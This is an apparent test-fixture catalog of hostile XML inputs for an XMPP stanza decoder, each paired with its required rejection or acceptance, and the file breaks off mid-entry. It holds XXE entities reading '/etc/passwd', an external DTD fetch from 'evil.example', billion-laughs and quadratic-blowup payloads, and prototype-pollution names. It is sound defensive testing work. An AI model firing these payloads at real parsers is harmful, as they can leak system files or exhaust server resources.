/**
 * The hostile-input catalog (issue 5): one record per case, with its category, the outcome
 * docs/security.md / docs/semantics.md require and where the rule comes from. Pure data plus small checks
 * that throw (no Jest import), so `fuzz.ts` can reuse the accepted inputs as mutation seeds.
 *
 * Conventions:
 * - `input` is what arrives from the socket: a string, bytes, or a builder for large inputs (so
 *   importing the catalog costs nothing until a case runs).
 * - `expect.reject` is the condition of `DecodeError.condition` (the first problem); `reason` and
 *   `offset` are checked on `Xml.parse`'s `XmlError` (the only place `reason` lives); `path` on
 *   the first problem.
 * - `expect.accept` is a partial record (matched with `toMatchObject`) or a check that throws.
 * - `knownFailure` marks a case where the implementation disagrees with the spec: the case keeps
 *   the spec's expectation and the runner uses `it.failing`, so fixing the code flags the marker.
 */
import type { Condition } from '../../src/DecodeError.js'
import type { Iq } from '../../src/Iq.js'
import type { Message } from '../../src/Message.js'
import type { Presence } from '../../src/Presence.js'
import type { DecodeOptions, Stanza } from '../../src/Stanza.js'
import { XML_NS, type XmlElement, type XmlNode } from '../../src/Xml.js'

// -------------------------------------------------------------------------------------
// model
// -------------------------------------------------------------------------------------

export type Category =
  | 'malformed'
  | 'forbidden'
  | 'entity-expansion'
  | 'prototype-pollution'
  | 'limits'
  | 'illegal-chars'
  | 'encoding'
  | 'namespaces'
  | 'stanza-rules'
  | 'jid-reject'
  | 'jid-accept'
  | 'valid'
  | 'correlation'

export type Input = string | Uint8Array

/** Throws when the decoded record is not the expected one. */
export type Check = (s: Stanza) => void

export type Expect =
  | {
      readonly reject: Condition
      /** `XmlError.reason` (XML-level faults only). */
      readonly reason?: string
      /** Path of the first problem, e.g. `message@to`, `presence/priority`. */
      readonly path?: string
      /** `XmlError.offset`: UTF-16 units into the text, or bytes for an encoding fault. */
      readonly offset?: number
    }
  | { readonly accept: Readonly<Record<string, unknown>> | Check }

/**
 * For `correlation` cases: a request `ping` with id `c1` to `to` (absent: none) is pending on a
 * stream bound as `juliet@example.com/balcony`; the decoded input is delivered; does it settle
 * the request (docs/security.md §6)?
 */
export interface Correlation {
  readonly to?: string
  readonly settles: boolean
  readonly acceptOwnDomain?: boolean
}

export interface Case {
  readonly id: string
  readonly category: Category
  readonly input: Input | (() => Input)
  readonly options?: DecodeOptions
  readonly expect: Expect
  readonly source: string
  readonly note?: string
  readonly knownFailure?: string
  readonly correlation?: Correlation
}

/** Our own JID in `correlation` cases. */
export const ME = 'juliet@example.com/balcony'

// -------------------------------------------------------------------------------------
// helpers
// -------------------------------------------------------------------------------------

export const inputOf = (c: Case): Input => (typeof c.input === 'function' ? c.input() : c.input)

export const utf8Bytes = (s: string): number => Buffer.byteLength(s, 'utf8')

const encoder = new TextEncoder()

/** Bytes from UTF-8 text and raw byte runs. */
const bytes = (...parts: ReadonlyArray<string | ReadonlyArray<number>>): Uint8Array => {
  const chunks = parts.map((p) => (typeof p === 'string' ? encoder.encode(p) : Uint8Array.from(p)))
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0))
  let at = 0
  for (const c of chunks) {
    out.set(c, at)
    at += c.length
  }
  return out
}

/** UTF-16 (or UTF-32) encoding of ASCII text, for the wide-encoding cases. */
const wide = (s: string, width: 2 | 4, bigEndian: boolean, bom: boolean): Uint8Array => {
  const out: number[] = []
  const unit = (c: number): void => {
    const b = width === 2 ? [(c >> 8) & 0xff, c & 0xff] : [0, 0, (c >> 8) & 0xff, c & 0xff]
    out.push(...(bigEndian ? b : b.reverse()))
  }
  if (bom) unit(0xfeff)
  for (let i = 0; i < s.length; i++) unit(s.charCodeAt(i))
  return Uint8Array.from(out)
}

const fail = (message: string): never => {
  throw new Error(message)
}

const same = (actual: unknown, expected: unknown, what: string): void => {
  const a = String(JSON.stringify(actual))
  const e = String(JSON.stringify(expected))
  if (a !== e) fail(`${what}: expected ${e.slice(0, 200)}, got ${a.slice(0, 200)}`)
}

const asMessage =
  (f: (m: Message) => void): Check =>
  (s) =>
    s.kind === 'message' ? f(s) : fail(`expected a message, got ${s.kind}`)

const asPresence =
  (f: (p: Presence) => void): Check =>
  (s) =>
    s.kind === 'presence' ? f(s) : fail(`expected a presence, got ${s.kind}`)

const asIq =
  (f: (iq: Iq) => void): Check =>
  (s) =>
    s.kind === 'iq' ? f(s) : fail(`expected an iq, got ${s.kind}`)

const firstPayload = (s: Stanza): XmlElement =>
  s.payload[0] ?? fail('expected a payload element, got none')

/** A payload element's attribute keys, checking the record has no prototype. */
const attrKeys = (el: XmlElement): ReadonlyArray<string> => {
  if (Object.getPrototypeOf(el.attrs) !== null) fail('attribute record has a prototype')
  return Object.keys(el.attrs)
}

const depthOf = (el: XmlElement): number => {
  let d = 0
  for (const c of el.children) if (typeof c !== 'string') d = Math.max(d, depthOf(c))
  return d + 1
}

const countElements = (nodes: ReadonlyArray<XmlNode>): number => {
  let n = 0
  for (const c of nodes) if (typeof c !== 'string') n += 1 + countElements(c.children)
  return n
}

const M = (inner: string, attrs = ''): string => `<message${attrs}>${inner}</message>`
const P = (inner: string, attrs = ''): string => `<presence${attrs}>${inner}</presence>`
const IQ = (inner: string, attrs = " type='get' id='1'"): string => `<iq${attrs}>${inner}</iq>`
const body = (text: string): string => M(`<body>${text}</body>`)
const to = (jid: string): string => `<message to='${jid}'/>`
const PING = "<ping xmlns='urn:xmpp:ping'/>"
const STANZAS = 'urn:ietf:params:xml:ns:xmpp-stanzas'

/**
 * A `<message><body>…</body></message>` of exactly `n` UTF-8 bytes (at least its 32-byte frame,
 * more with `ns`), with a body of filler text: the normal stanza the time bounds compare with.
 */
export const paddedMessage = (n: number, ns?: string): string => {
  const pre = ns === undefined ? '<message><body>' : `<message xmlns='${ns}'><body>`
  const post = '</body></message>'
  return `${pre}${'x'.repeat(Math.max(0, n - utf8Bytes(pre) - post.length))}${post}`
}

const names = (n: number, prefix = 'a'): string =>
  Array.from({ length: n }, (_, i) => ` ${prefix}${i}=''`).join('')

const nested = (depth: number, name = 'a'): string =>
  `<${name}>`.repeat(depth) + `</${name}>`.repeat(depth)

const MAX = 262_144

// -------------------------------------------------------------------------------------
// the catalog
// -------------------------------------------------------------------------------------

const cases: Case[] = []

type More = Partial<Pick<Case, 'options' | 'note' | 'knownFailure' | 'correlation'>>

const adder =
  (category: Category) =>
  (id: string, source: string, input: Input | (() => Input), expect: Expect, more: More = {}) => {
    cases.push({ id: `${category}/${id}`, category, input, expect, source, ...more })
  }

const reject = (
  condition: Condition,
  more: { reason?: string; path?: string; offset?: number } = {},
): Expect => ({
  reject: condition,
  ...more,
})
const accept = (expected: Readonly<Record<string, unknown>> | Check): Expect => ({
  accept: expected,
})
const NWF = reject('not-well-formed')
const RX = reject('restricted-xml')
const PV = reject('policy-violation')

// --- malformed XML (docs/security.md §2 row 3: not-well-formed, RFC 6120 §11.3) ----------------
{
  const add = adder('malformed')
  const src = 'RFC 6120 §11.3'
  add(
    'mismatched-tags',
    src,
    '<message><body>hi</message></body>',
    reject('not-well-formed', { offset: 17 }),
  )
  add('end-tag-case-mismatch', src, '<message></Message>', NWF)
  add('unclosed-child', src, '<message><body>hi</body>', NWF)
  add('unclosed-root-only', src, '<message>', NWF)
  add('stray-end-tag', src, '</message>', NWF)
  add('end-tag-with-attribute', src, "<message></message id='1'>", NWF)
  add('truncated-start-tag', src, '<message', NWF)
  add('truncated-in-attribute', src, "<message to='juliet@exa", NWF)
  add('truncated-end-tag', src, '<message></messa', NWF)
  add('empty-input', 'docs/security.md §2', '', NWF)
  add(
    'whitespace-only',
    'RFC 6120 §11.7',
    ' \n\t ',
    reject('not-well-formed', { reason: 'not-a-stanza' }),
  )
  add('two-roots', src, '<message/><message/>', NWF)
  add('second-root-after-self-closing', src, '<message/><presence></presence>', NWF)
  add('text-after-root', src, '<message/>x', NWF)
  add('text-before-root', src, 'x<message/>', NWF)
  add('unquoted-attribute', src, '<message type=chat/>', NWF)
  add('valueless-attribute', src, '<message checked/>', NWF)
  add('unseparated-attributes', src, "<message id='1'type='chat'/>", NWF)
  add('duplicate-attribute', src, "<message id='1' id='2'/>", NWF)
  add('mismatched-quotes', src, '<message id=\'1"/>', NWF)
  add('raw-lt-in-text', src, body('a < b'), NWF)
  add('raw-lt-in-attribute', src, "<message id='a<b'/>", NWF)
  add('bare-ampersand-in-text', src, body('fish & chips'), NWF)
  add('bare-ampersand-in-attribute', src, "<message id='a&b'/>", NWF)
  add('reference-without-semicolon', src, body('&amp x'), NWF)
  add('cdata-end-in-text', src, body('a]]>b'), NWF)
  add('unterminated-cdata', src, body('<![CDATA[abc'), NWF)
  add('cdata-outside-root', src, '<![CDATA[x]]><message/>', NWF)
  add('digit-name-start', src, '<message><1x/></message>', NWF)
  add('hyphen-name-start', src, '<message><-x/></message>', NWF)
  add('empty-element-name', src, '<message><></></message>', NWF)
  add('space-before-name', src, '< message/>', NWF)
  add('slash-not-closing', src, '<message/ >', NWF)
  add('empty-char-ref', src, body('&#;'), NWF)
  add('empty-hex-char-ref', src, body('&#x;'), NWF)
  add('bad-hex-digit', src, body('&#xZZ;'), NWF)
  add('negative-char-ref', src, body('&#-65;'), NWF)
  add('char-ref-without-semicolon', src, body('&#65 '), NWF)
  add('leading-feff-character', 'docs/security.md §2', '\ufeff<message/>', NWF)
  // "the first fault found wins" (docs/security.md §1): earlier in the text within the scan, and
  // earlier in the pipeline across stages
  const order = 'docs/security.md §1 (first fault wins)'
  add('first-fault-comment-before-nul', order, M('<!-- c --><body>\u0000</body>'), RX)
  add('first-fault-nul-before-comment', order, M('<body>\u0000</body><!-- c -->'), NWF)
  add('first-fault-depth-before-nul', order, M(`${'<a>'.repeat(40)}\u0000`), PV)
  add('scan-before-namespaces', order, M('<p:x/><!-- c -->'), RX)
  add('identity-before-stanza-rules', order, "<message xmlns='jabber:server' to='@bad'/>", {
    reject: 'invalid-namespace',
  })
  add('xml-before-stanza-rules', order, "<iq to='@bad'><!-- c --></iq>", RX)
}

// --- forbidden constructs (restricted-xml, RFC 6120 §11.1, §4.9.3.18) -------------------------
{
  const add = adder('forbidden')
  const src = 'RFC 6120 §11.1'
  add('doctype-before-root', src, '<!DOCTYPE message><message/>', RX)
  add(
    'doctype-internal-subset',
    src,
    "<!DOCTYPE message [<!ELEMENT message ANY>]><message xmlns='jabber:client'/>",
    RX,
  )
  add('lowercase-doctype', src, '<!doctype message><message/>', RX)
  add('entity-declaration-in-stanza', src, M("<!ENTITY x 'y'>"), RX)
  add('element-declaration-in-stanza', src, M('<!ELEMENT body ANY>'), RX)
  add('attlist-declaration', src, M('<!ATTLIST message id CDATA #IMPLIED>'), RX)
  add('conditional-section', src, M('<![INCLUDE[<body/>]]>'), RX)
  add(
    'external-entity-xxe',
    'RFC 6120 §11.1; CWE-611',
    "<!DOCTYPE m [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><message><body>&xxe;</body></message>",
    RX,
  )
  add(
    'parameter-entity',
    'RFC 6120 §11.1',
    "<!DOCTYPE m [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]><message/>",
    RX,
  )
  add(
    'dotted-entity-shadows-lt',
    'CVE-2026-25896',
    "<!DOCTYPE m [<!ENTITY l. '&#60;'>]><message><body>&lt;</body></message>",
    RX,
  )
  add(
    'repeated-doctypes',
    'CVE-2026-73569',
    "<!DOCTYPE a [<!ENTITY x 'y'>]><!DOCTYPE b [<!ENTITY x 'z'>]><message/>",
    RX,
  )
  add('comment-in-body', src, body('a<!-- c -->b'), reject('restricted-xml', { offset: 16 }))
  add('comment-before-root', src, '<!-- hi --><message/>', RX)
  add('comment-after-root', src, '<message/><!-- hi -->', RX)
  add('comment-between-children', src, M('<body>a</body><!---->'), RX)
  add('processing-instruction', src, M('<?php evil() ?>'), RX)
  add('pi-before-root', src, '<?xml-stylesheet href="x"?><message/>', RX)
  add('xml-declaration-before-root', src, "<?xml version='1.0'?><message/>", RX)
  add('xml-declaration-inside-stanza', src, M("<?xml version='1.0'?>"), RX)
  add('xml-declaration-utf16-label', src, "<?xml version='1.0' encoding='UTF-16'?><message/>", RX)
  add('bang-without-cdata', src, M('<!>'), RX)
  add('nbsp-html-entity', 'docs/security.md §2', body('a&nbsp;b'), RX)
  add('copy-html-entity', 'docs/security.md §2', body('&copy;'), RX)
}

// --- entity expansion (no expansion ever happens; CVE-2026-26278 class) ------------------------
{
  const add = adder('entity-expansion')
  const lol =
    "<!DOCTYPE lolz [<!ENTITY lol 'lol'>" +
    Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} '${`&lol${i === 0 ? '' : i};`.repeat(10)}'>`,
    ).join('') +
    ']>'
  add('billion-laughs', 'CVE-2026-26278', `${lol}${body('&lol9;')}`, RX)
  add(
    'quadratic-blowup',
    'CVE-2026-26278',
    () => `<!DOCTYPE m [<!ENTITY a '${'a'.repeat(100_000)}'>]>${body('&a;'.repeat(60_000))}`,
    reject('policy-violation'),
    { note: 'over the size cap: the cap comes first (docs/security.md §1 stage 1)' },
  )
  add(
    'quadratic-blowup-under-cap',
    'CVE-2026-26278',
    () => `<!DOCTYPE m [<!ENTITY a '${'a'.repeat(10_000)}'>]>${body('&a;'.repeat(20_000))}`,
    RX,
  )
  add('undefined-entity-lol9', 'RFC 6120 §11.1', body('&lol9;'), RX)
  add('undefined-entity-in-attribute', 'RFC 6120 §11.1', "<message id='&foo;'/>", RX)
  add('million-char-refs', 'docs/security.md §4', () => body('&#65;'.repeat(1_000_000)), PV, {
    note: 'fxp alone: ~0.94 s and 158 MB',
  })
  add(
    'char-refs-up-to-cap',
    'CVE-2026-33036',
    () => body('&#65;'.repeat(52_000)),
    accept(asMessage((m) => same(m.body?.length, 52_000, 'body length'))),
  )
  add(
    'hex-char-refs-up-to-cap',
    'CVE-2026-33036',
    () => body('&#x1F600;'.repeat(29_000)),
    accept(asMessage((m) => same(m.body, '😀'.repeat(29_000), 'body'))),
  )
  add(
    'named-refs-up-to-cap',
    'docs/security.md §1 stage 5',
    () => body('&amp;'.repeat(52_000)),
    accept(asMessage((m) => same(m.body, '&'.repeat(52_000), 'body'))),
  )
  add('huge-decimal-ref', 'CVE-2026-25128', body('&#9999999;'), NWF)
  add('ref-beyond-unicode', 'CVE-2026-25128', body('&#x110000;'), NWF)
  add('ref-with-many-digits', 'CVE-2026-25128', () => body(`&#${'9'.repeat(200_000)};`), NWF)
  add(
    'ref-with-many-leading-zeros',
    'CVE-2026-33036',
    () => body(`&#${'0'.repeat(200_000)}65;`),
    accept({ kind: 'message', body: 'A' }),
  )
  add('no-double-decoding-named', 'XML 1.0 §4.6', body('&amp;lt;'), accept({ body: '&lt;' }))
  add('no-double-decoding-numeric', 'XML 1.0 §4.6', body('&#38;#60;'), accept({ body: '&#60;' }))
  add('numeric-lt-is-text', 'XML 1.0 §4.1', body('&#60;b&#62;'), accept({ body: '<b>' }))
}

// --- prototype-pollution names (CVE-2023-26920; docs/security.md §2) --------------------------------
{
  const add = adder('prototype-pollution')
  const src = 'CVE-2023-26920; docs/security.md §2'
  const bad = reject('bad-format', { reason: 'unprocessable-name' })
  for (const n of [
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    '__defineGetter__',
    '__lookupSetter__',
    'isPrototypeOf',
  ])
    add(`element-${n}`, src, M(`<${n} xmlns='urn:x'/>`), bad)
  add('root-__proto__', src, '<__proto__/>', bad)
  add('prefixed-element-__proto__', src, M("<p:__proto__ xmlns:p='urn:x'/>"), bad)
  add(
    'deep-element-constructor',
    src,
    M(`${'<a>'.repeat(5)}<constructor/>${'</a>'.repeat(5)}`),
    bad,
  )
  for (const n of [
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    '__defineGetter__',
  ])
    add(
      `attribute-${n}-dropped`,
      src,
      M(`<x xmlns='urn:x' ${n}='{"polluted":true}' keep='1'/>`),
      accept((s) => same(attrKeys(firstPayload(s)), ['keep'], 'attribute keys')),
    )
  add(
    'prefixed-attribute-__proto__-dropped',
    src,
    M("<x xmlns='urn:x' xmlns:p='urn:p' p:__proto__='1' p:keep='2'/>"),
    accept((s) => same(attrKeys(firstPayload(s)), ['{urn:p}keep'], 'attribute keys')),
  )
  add(
    'stanza-attribute-__proto__-ignored',
    src,
    "<message __proto__='x' constructor='y' id='1'/>",
    accept({ kind: 'message', id: '1' }),
  )
  add(
    'names-containing-proto-words-ok',
    'XML 1.0 §2.3',
    M("<toStringX xmlns='urn:x' constructors='1' __proto='2'/>"),
    accept((s) => {
      const el = firstPayload(s)
      same([el.name, attrKeys(el)], ['toStringX', ['constructors', '__proto']], 'element')
    }),
  )
  add(
    'prefix-named-__proto__-ok',
    'Namespaces in XML 1.0 §3',
    M("<__proto__:x xmlns:__proto__='urn:x'/>"),
    accept((s) => same([firstPayload(s).name, firstPayload(s).ns], ['x', 'urn:x'], 'element')),
  )
  add(
    'attribute-value-__proto__-ok',
    'docs/security.md §1 stage 4',
    "<message id='__proto__'/>",
    accept({ id: '__proto__' }),
  )
  add(
    'attribute-name-with-U+FEFF',
    'fuzz seed -1871412632: fast-xml-parser splits names on \\s',
    M(`<x xmlns='urn:x' a\ufeff10='' b='1'/>`),
    reject('bad-format'),
  )
  add(
    'element-name-with-U+1680',
    'fast-xml-parser splits names on \\s (U+1680 is a legal name character)',
    M(`<x\u1680y xmlns='urn:x'/>`),
    reject('bad-format'),
  )
}

// --- limits: just under (accepted) and just over (policy-violation), docs/security.md §3 ------------
{
  const add = adder('limits')
  const src = 'docs/security.md §3; RFC 6120 §4.9.3.14'
  // size
  add(
    'size-exact-string',
    src,
    () => paddedMessage(MAX),
    accept(asMessage((m) => same(m.body?.length, MAX - 32, 'body length'))),
  )
  add('size-over-string', src, () => paddedMessage(MAX + 1), PV)
  add(
    'size-exact-bytes',
    src,
    () => encoder.encode(paddedMessage(MAX)),
    accept({ kind: 'message' }),
  )
  add('size-over-bytes', src, () => encoder.encode(paddedMessage(MAX + 1)), PV)
  add(
    'size-utf8-counted-not-utf16',
    'docs/security.md §1 stage 1',
    () => `${paddedMessage(MAX - 1).slice(0, -17)}é</body></message>`,
    PV,
    { note: '262,144 UTF-16 units (the cap) but 262,145 UTF-8 octets' },
  )
  add(
    'size-exact-with-emoji',
    'docs/security.md §1 stage 1',
    () => body('😀'.repeat((MAX - 32) / 4)),
    accept(asMessage((m) => same(m.body?.length, (MAX - 32) / 2, 'body UTF-16 length'))),
  )
  add(
    'size-emoji-one-over',
    'docs/security.md §1 stage 1',
    () => body(`${'😀'.repeat((MAX - 32) / 4 - 1)}xxxxx`),
    PV,
  )
  add(
    'size-s2s-cap-raised',
    'docs/security.md §3',
    () => paddedMessage(400_000),
    accept({ kind: 'message' }),
    { options: { limits: { maxBytes: 524_288 } } },
  )
  add('size-zero-cap-not-ignored', 'CVE-2026-33349', '<message/>', PV, {
    options: { limits: { maxBytes: 0 } },
  })
  add(
    'octet-cap-never-cuts-sequence',
    'CVE-2015-2058',
    bytes('<message><body>', [0xf0, 0x9f, 0x98, 0x80], '</body></message>'),
    PV,
    {
      options: { limits: { maxBytes: 17 } },
      note: 'the cap falls inside the emoji: reject whole, never decode a cut prefix',
    },
  )
  add(
    'octet-cap-at-sequence-end',
    'CVE-2015-2058',
    bytes('<message><body>', [0xf0, 0x9f, 0x98, 0x80], '</body></message>'),
    accept({ body: '😀' }),
    { options: { limits: { maxBytes: 36 } } },
  )
  add('octet-cap-string-multibyte', 'CVE-2015-2058', body('ééé'), PV, {
    options: { limits: { maxBytes: 37 } },
    note: '35 UTF-16 units, 38 octets',
  })
  // depth
  add(
    'depth-32',
    src,
    M(nested(31)),
    accept((s) => same(depthOf(firstPayload(s)) + 1, 32, 'depth')),
  )
  add('depth-33', src, M(nested(32)), PV)
  add('depth-bomb-unclosed', src, () => `<message>${'<a>'.repeat(80_000)}`, PV)
  add(
    'depth-bomb-closed',
    'docs/security.md §4 (fxp quadratic in depth)',
    () => M(nested(50_000)),
    PV,
    {
      options: { limits: { maxBytes: 1_048_576 } },
    },
  )
  add('depth-custom-4', src, M(nested(3)), accept({ kind: 'message' }), {
    options: { limits: { maxDepth: 4 } },
  })
  add('depth-custom-5', src, M(nested(4)), PV, { options: { limits: { maxDepth: 4 } } })
  add('depth-raised-to-100', src, M(nested(99)), accept({ kind: 'message' }), {
    options: { limits: { maxDepth: 100 } },
  })
  add('depth-raised-to-100-over', src, M(nested(100)), PV, {
    options: { limits: { maxDepth: 100 } },
  })
  add('depth-one-root-only', src, '<message/>', accept({ kind: 'message' }), {
    options: { limits: { maxDepth: 1 } },
  })
  add('depth-one-with-child', src, body(''), PV, { options: { limits: { maxDepth: 1 } } })
  // elements
  add(
    'elements-10000',
    src,
    () => M(`<x xmlns='urn:x'>${'<a/>'.repeat(9_998)}</x>`),
    accept((s) => same(countElements(s.payload) + 1, 10_000, 'elements')),
  )
  add('elements-10001', src, () => M(`<x xmlns='urn:x'>${'<a/>'.repeat(9_999)}</x>`), PV)
  add('elements-bomb', src, () => M('<a/>'.repeat(65_000)), PV)
  add(
    'elements-raised-to-20000',
    src,
    () => M('<a/>'.repeat(19_999)),
    accept((s) => same(s.payload.length, 19_999, 'payload')),
    { options: { limits: { maxElements: 20_000 } } },
  )
  add('elements-custom-1', src, '<message/>', accept({ kind: 'message' }), {
    options: { limits: { maxElements: 1 } },
  })
  add('elements-custom-1-over', src, body('x'), PV, { options: { limits: { maxElements: 1 } } })
  // attributes (namespace declarations count)
  add(
    'attributes-64-with-xmlns',
    src,
    M(`<x xmlns='urn:x'${names(63)}/>`),
    accept((s) => same(attrKeys(firstPayload(s)).length, 63, 'attributes')),
  )
  add('attributes-65-with-xmlns', src, M(`<x xmlns='urn:x'${names(64)}/>`), PV)
  add('attributes-64-on-root', src, `<message${names(64)}/>`, accept({ kind: 'message' }))
  add('attributes-65-on-root', src, `<message${names(65)}/>`, PV)
  add('attributes-bomb', src, () => `<message${names(20_000)}/>`, PV)
  add(
    'attributes-raised-to-100',
    src,
    M(`<x xmlns='urn:x'${names(99)}/>`),
    accept((s) => same(attrKeys(firstPayload(s)).length, 99, 'attributes')),
    { options: { limits: { maxAttributes: 100 } } },
  )
  add('attributes-zero-limit-none', 'CVE-2026-33349', '<message/>', accept({ kind: 'message' }), {
    options: { limits: { maxAttributes: 0 } },
  })
  add('attributes-zero-limit-one', 'CVE-2026-33349', "<message id='1'/>", PV, {
    options: { limits: { maxAttributes: 0 } },
  })
  // names
  const n256 = `e${'x'.repeat(255)}`
  add(
    'element-name-256',
    src,
    M(`<${n256} xmlns='urn:x'/>`),
    accept((s) => same(firstPayload(s).name.length, 256, 'name length')),
  )
  add('element-name-257', src, M(`<${n256}x xmlns='urn:x'/>`), PV)
  add(
    'qname-256-with-prefix',
    src,
    M(`<p:${'x'.repeat(254)} xmlns:p='urn:x'/>`),
    accept((s) => same(firstPayload(s).name.length, 254, 'local length')),
  )
  add('qname-257-with-prefix', src, M(`<p:${'x'.repeat(255)} xmlns:p='urn:x'/>`), PV)
  add(
    'attribute-name-256',
    src,
    M(`<x xmlns='urn:x' ${n256}='1'/>`),
    accept((s) => same(attrKeys(firstPayload(s)), [n256], 'attribute keys')),
  )
  add('attribute-name-257', src, M(`<x xmlns='urn:x' ${n256}x='1'/>`), PV)
  add(
    'name-raised-to-1000',
    src,
    M(`<${'n'.repeat(1000)} xmlns='urn:x'/>`),
    accept((s) => same(firstPayload(s).name.length, 1000, 'name length')),
    { options: { limits: { maxNameLength: 1000 } } },
  )
  add('name-bomb', src, () => M(`<${'n'.repeat(200_000)}/>`), PV)
  add(
    'element-name-256-two-byte-chars',
    src,
    M(`<${'é'.repeat(256)} xmlns='urn:x'/>`),
    accept((s) => same(firstPayload(s).name, 'é'.repeat(256), 'name')),
  )
  add(
    'element-name-129-astral-chars',
    'docs/security.md §3 (QName length in characters)',
    M(`<${'𐀀'.repeat(129)} xmlns='urn:x'/>`),
    accept((s) => same(firstPayload(s).name, '𐀀'.repeat(129), 'name')),
  )
  add(
    'element-name-257-astral-chars',
    'docs/security.md §3 (QName length in characters)',
    M(`<${'𐀀'.repeat(257)} xmlns='urn:x'/>`),
    reject('policy-violation'),
  )
}

// --- illegal characters (XML 1.0 §2.2 Char; docs/security.md §2 row 2) ------------------------------
{
  const add = adder('illegal-chars')
  const src = 'XML 1.0 §2.2; docs/security.md §2'
  for (const [id, ch] of [
    ['nul', '\u0000'],
    ['soh', '\u0001'],
    ['backspace', '\u0008'],
    ['vertical-tab', '\u000b'],
    ['form-feed', '\u000c'],
    ['unit-separator', '\u001f'],
    ['lone-high-surrogate', '\ud800'],
    ['lone-low-surrogate', '\udfff'],
    ['reversed-surrogate-pair', '\ude00\ud83d'],
    ['fffe', '\ufffe'],
    ['ffff', '\uffff'],
  ] as const)
    add(`literal-${id}-in-text`, src, body(`a${ch}b`), reject('not-well-formed', { offset: 16 }))
  add('literal-nul-in-attribute', src, "<message id='a\u0000b'/>", NWF)
  add('literal-esc-in-attribute', src, "<message id='\u001b[31m'/>", NWF)
  add('literal-lone-surrogate-in-attribute', src, "<message id='\ud83d'/>", NWF)
  add('literal-nul-in-cdata', src, body('<![CDATA[a\u0000b]]>'), NWF)
  add('literal-nul-in-name', src, M('<a\u0000b/>'), NWF)
  add('literal-nul-outside-root', src, '<message/>\u0000', NWF)
  for (const ref of [
    '&#0;',
    '&#x0;',
    '&#1;',
    '&#x1F;',
    '&#xD800;',
    '&#xDFFF;',
    '&#xFFFE;',
    '&#xFFFF;',
    '&#1114112;',
  ])
    add(`reference-${ref.slice(2, -1)}-in-text`, src, body(ref), NWF)
  add('reference-nul-in-attribute', src, "<message id='&#0;'/>", NWF)
  add('reference-surrogate-in-attribute', src, "<message id='&#xD83D;'/>", NWF)
  // the legal neighbours
  add('del-is-legal', src, body('\u007f'), accept({ body: '\u007f' }))
  add('c1-controls-legal', src, body('\u0080\u0085\u009f'), accept({ body: '\u0080\u0085\u009f' }))
  add('tab-lf-cr-references', src, body('&#9;&#xA;&#13;'), accept({ body: '\t\n\r' }))
  add('max-code-point-reference', src, body('&#x10FFFF;'), accept({ body: '\u{10ffff}' }))
  add('noncharacter-fdd0-legal', src, body('\ufdd0'), accept({ body: '\ufdd0' }))
  add('fffd-legal', src, body('\ufffd'), accept({ body: '\ufffd' }))
  add('feff-inside-text-legal', src, body('a\ufeffb'), accept({ body: 'a\ufeffb' }))
}

// --- encodings and bytes (RFC 6120 §11.6, RFC 3629) --------------------------------------------
{
  const add = adder('encoding')
  const src = 'RFC 6120 §11.6; RFC 3629 §3'
  const inBody = (...raw: ReadonlyArray<number>): Uint8Array =>
    bytes('<message><body>', raw, '</body></message>')
  add('invalid-byte-ff', src, inBody(0xff), reject('not-well-formed', { offset: 15 }))
  add('invalid-byte-after-emoji', src, inBody(0xf0, 0x9f, 0x98, 0x80, 0xff), {
    reject: 'not-well-formed',
    offset: 19,
  })
  add('nul-byte', src, inBody(0x00), reject('not-well-formed', { offset: 15 }))
  add('empty-bytes', src, new Uint8Array(0), NWF)
  add(
    'bom-bytes-mid-text-legal',
    src,
    inBody(0x61, 0xef, 0xbb, 0xbf, 0x62),
    accept({ body: 'a\ufeffb' }),
  )
  add('invalid-byte-fe', src, inBody(0xfe), NWF)
  add('lone-continuation-byte', src, inBody(0x80), NWF)
  add('overlong-slash-2-byte', src, inBody(0xc0, 0xaf), NWF)
  add('overlong-c1-bf', src, inBody(0xc1, 0xbf), NWF)
  add('overlong-3-byte', src, inBody(0xe0, 0x80, 0xaf), NWF)
  add('overlong-4-byte', src, inBody(0xf0, 0x80, 0x80, 0xaf), NWF)
  add('modified-utf8-nul', src, inBody(0xc0, 0x80), NWF)
  add('encoded-high-surrogate', src, inBody(0xed, 0xa0, 0x80), NWF)
  add('encoded-low-surrogate', src, inBody(0xed, 0xbf, 0xbf), NWF)
  add('cesu8-surrogate-pair', src, inBody(0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80), NWF)
  add('beyond-10ffff', src, inBody(0xf4, 0x90, 0x80, 0x80), NWF)
  add('f5-lead-byte', src, inBody(0xf5, 0x80, 0x80, 0x80), NWF)
  add('truncated-3-byte-sequence', src, inBody(0xe2, 0x82), NWF)
  add('truncated-at-end-of-input', src, bytes('<message/>', [0xf0, 0x9f, 0x98]), NWF)
  add('truncated-then-ascii', src, inBody(0xc3, 0x41), NWF)
  add('invalid-in-attribute', src, bytes("<message id='", [0xff], "'/>"), NWF)
  add('latin1-not-utf8', src, inBody(0x63, 0x61, 0x66, 0xe9), NWF)
  add('ebcdic-pattern', src, Uint8Array.from([0x4c, 0x6f, 0xa7, 0x94]), NWF)
  add(
    'utf8-bom',
    'docs/security.md §2 (a leading U+FEFF)',
    bytes([0xef, 0xbb, 0xbf], '<message/>'),
    NWF,
  )
  const wsrc = 'RFC 6120 §11.6; XML 1.0 App. F'
  const UE = reject('unsupported-encoding')
  add('utf16be-bom', wsrc, wide('<message/>', 2, true, true), UE)
  add('utf16le-bom', wsrc, wide('<message/>', 2, false, true), UE)
  add('utf16be-pattern', wsrc, wide('<message/>', 2, true, false), UE)
  add('utf16le-pattern', wsrc, wide('<message/>', 2, false, false), UE)
  add('utf32be-bom', wsrc, wide('<message/>', 4, true, true), UE)
  add('utf32le-bom', wsrc, wide('<message/>', 4, false, true), UE)
  add('utf32be-pattern', wsrc, wide('<message/>', 4, true, false), UE)
  add('utf32le-pattern', wsrc, wide('<message/>', 4, false, false), UE)
  add(
    'cap-before-decoding',
    'docs/security.md §1 stage 1',
    () => new Uint8Array(MAX + 1).fill(0xff),
    PV,
  )
  add(
    'cap-before-encoding-sniff',
    'docs/security.md §1 stage 1',
    () => wide(paddedMessage(MAX), 2, true, true),
    PV,
  )
  add(
    'valid-multibyte-bytes',
    src,
